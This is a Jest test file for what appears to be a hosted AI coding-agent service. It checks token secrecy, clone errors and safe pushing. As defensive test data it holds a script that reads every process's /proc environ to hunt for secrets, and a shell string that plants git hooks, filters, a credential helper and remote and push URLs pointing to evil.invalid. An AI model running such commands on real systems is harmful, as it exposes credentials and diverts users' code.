import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { mkdtemp } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import { startCodeHost, type TestCodeHost } from '../../fakes/code-host.ts'
import { call, edit, type Given, looking, runHosted, TOKEN } from '../../fakes/hosted-run.ts'
import { createWorkbench, type Workbench } from '../../fakes/workbench.ts'

let bench: Workbench
let host: TestCodeHost
beforeAll(async () => {
  bench = await createWorkbench({ sandboxed: true })
})
afterAll(() => bench[Symbol.asyncDispose]())
beforeEach(async () => {
  host = await startCodeHost(await mkdtemp(join(bench.folder, 'host-')), {
    tokens: { [TOKEN]: { scopes: 'repo, user:email', mayRead: true, mayPush: true } },
  })
})
afterEach(() => host[Symbol.asyncDispose]())

const run = (given?: Given) => runHosted(bench, host, given)
const branchFiles = (branch: string) => host.git('ls-tree', '-r', '--name-only', branch).split('\n')
const fileAt = (branch: string, path: string) => host.git('show', `${branch}:${path}`)

describe('a private repository', () => {
  it('is not cloned without an account, and the error says what to do', async () => {
    const { error } = await run({ token: undefined })
    expect(error).toMatchObject({ code: 'clone_failed', retryable: false })
    expect(error?.message).toContain('link an account with access')
  })

  it.each([
    ['that there is not', 'gho_unknownUNKNOWNunknown', {}],
    ['of a user who may not read it', TOKEN, { mayRead: false }],
  ])('is refused alike to a token %s, there or not', async (_title, token, rights) => {
    host.tokens.set(TOKEN, { scopes: 'repo', ...rights })
    const there = (await run({ token })).error
    const missing = (await run({ token, about: { repository: 'owner/none' } })).error
    expect(there?.message).toContain(
      'the linked account cannot read it. Check the name, and link a GitHub account',
    )
    expect(missing?.message).toBe(there?.message.replace('owner/repo', 'owner/none'))
  })

  it('is cloned with one, whose token is nowhere to be found', async () => {
    // All that a program of the agent can see of its own environment and of other processes.
    const peek = `import { readdirSync, readFileSync } from 'node:fs'
for (const id of ['self', ...readdirSync('/proc').filter((name) => Number(name))])
  for (const file of ['environ', 'cmdline'])
    try { console.log('SEEN', readFileSync('/proc/' + id + '/' + file, 'utf8')) } catch {}`
    const { result, progress, commands, models, observed, secrets } = await run({
      calls: [
        call('run_command', { command: 'env' }),
        call('write_file', { path: 'peek.mjs', content: peek }),
        call('run_command', { command: 'node', args: ['peek.mjs'] }),
        edit,
      ],
    })
    expect(result).toMatchObject({ success: true, filesChanged: [{ path: 'greeting.txt' }, {}] })
    const basic = Buffer.from(`x-access-token:${TOKEN}`).toString('base64')
    const told = JSON.stringify({ result, progress, observed, heard: models.requests })
    expect(['stdout:\\nHOME=', 'SEEN HOME='].map((seen) => told.includes(seen))).toEqual([true, true])
    const argv = commands.flatMap(({ args }) => args).join('\n')
    // Which commands had it at all: those that reach the host.
    const having = commands.filter(({ env = {} }) => JSON.stringify(env).includes(basic))
    expect(having.map(({ by, network }) => [by, network])).toEqual(having.map(() => ['service', 'host']))
    expect(having.length).toBeGreaterThan(0)
    const files = readdirSync(join(bench.dir, 'task_1-1'), { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map(({ parentPath, name }) => readFileSync(join(parentPath, name), 'latin1'))
      .join('\n')
    for (const [place, text] of Object.entries({ told, argv, files }))
      for (const secret of [TOKEN, basic]) expect([place, text.includes(secret)]).toEqual([place, false])
    expect(new Set(secrets)).toEqual(new Set([TOKEN]))
  })

  it('that is public is cloned although the token is not taken any more', async () => {
    host.isPrivate = false
    const { result, published } = await run({ token: 'gho_revokedREVOKEDrevoked', calls: [looking] })
    expect([result?.success, published]).toEqual([true, undefined])
  })
})

it('sends a token to no host but the code host', async () => {
  const other = await startCodeHost(await mkdtemp(join(bench.folder, 'other-')), { isPrivate: false })
  await using _stopped = other
  const caFile = join(bench.folder, 'both.crt')
  writeFileSync(caFile, readFileSync(host.caFile, 'utf8') + readFileSync(other.caFile, 'utf8'))
  const { result } = await run({ caFile, about: { repository: `${other.origin}/owner/repo.git` } })
  expect([result?.success, result?.published]).toEqual([true, undefined])
  expect(other.heard.map(({ authorization }) => authorization)).not.toContainEqual(expect.anything())
})

/** All that a repository may make plain git do, in one. */
const traps = `
for hook in pre-push pre-commit post-index-change reference-transaction; do
  mkdir -p .git/hooks
  printf "#!/bin/sh\ntouch $PWD/sprung\n" > .git/hooks/$hook
  chmod +x .git/hooks/$hook
done
git config filter.x.clean "touch $PWD/sprung; cat"
echo '*.txt filter=x' > .gitattributes
git config url.https://evil.invalid/.insteadOf https://
git config url.https://evil.invalid/.pushInsteadOf https://
git config remote.origin.url https://evil.invalid/
git config credential.helper "!touch $PWD/sprung"
git config http.proxy http://127.0.0.1:1
git config core.fsmonitor "touch $PWD/sprung"`

describe('what an agent leaves behind', () => {
  it('does nothing to a push: hooks, filters, settings and commits of its own', async () => {
    const commit = 'git -c user.name=x -c user.email=x@y -c core.hooksPath=/dev/null -c core.fsmonitor=false'
    const own = `git -c core.hooksPath=/dev/null checkout -q -b elsewhere; ${commit} commit -q --allow-empty -m Own`
    const { published } = await run({ script: `${own}; ${traps}` })
    expect(published).toMatchObject({ status: 'published', branch: 'agent/task_1' })
    expect(existsSync(join(bench.dir, 'task_1-1/work/sprung'))).toBe(false)
    expect(fileAt('agent/task_1', 'greeting.txt')).toBe('hello\neverybody')
    expect(branchFiles('agent/task_1')).toEqual(['.gitattributes', 'greeting.txt'])
    expect(host.git('rev-list', '--count', 'main..agent/task_1')).toBe('1')
  })

  it.each([
    ['is gone', 'rm -rf .git'],
    ['is a file that leads elsewhere', 'rm -rf .git; echo "gitdir: /tmp/x" > .git'],
    ['is a link', 'mv .git elsewhere; ln -s elsewhere .git; echo elsewhere > .gitignore'],
    ['is a pipe', 'rm -rf .git; mkfifo .git'],
    ['has no objects', 'rm -rf .git/objects'],
    [
      'is locked, on a branch that does not exist',
      'touch .git/index.lock; echo ref: refs/heads/none > .git/HEAD',
    ],
    [
      'is another repository',
      'rm -rf .git; git init -q .; git -c user.name=x -c user.email=x@y commit -q --allow-empty -m X',
    ],
  ])('pushes the changes also where the git directory %s', async (_title, script) => {
    const { result, published } = await run({ script })
    expect([result?.success, published]).toEqual([
      true,
      expect.objectContaining({ status: 'published', branch: 'agent/task_1' }),
    ])
    expect(fileAt('agent/task_1', 'greeting.txt')).toBe('hello\neverybody')
    expect(host.git('rev-list', '--count', 'main..agent/task_1')).toBe('1')
  })

  it('does not stop a push: what git cannot take is left out, and named in the pull request', async () => {
    const script =
      'git init -q sub; echo x > sub/x; echo y > y.txt; mkfifo .gitignore; mkdir "git~1"; echo z > "git~1/config"'
    const { result, published } = await run({ script })
    expect(published).toMatchObject({ status: 'published' })
    expect(result?.leftOut).toEqual([
      { path: '.gitignore', reason: 'special' },
      { path: 'git~1/config', reason: 'name' },
      { path: 'sub', reason: 'repository' },
    ])
    expect(branchFiles('agent/task_1')).toEqual(['greeting.txt', 'y.txt'])
    expect(host.pulls[0]?.body).toContain('git cannot store them:\n\n- git~1/config\n- sub\n')
  })
})
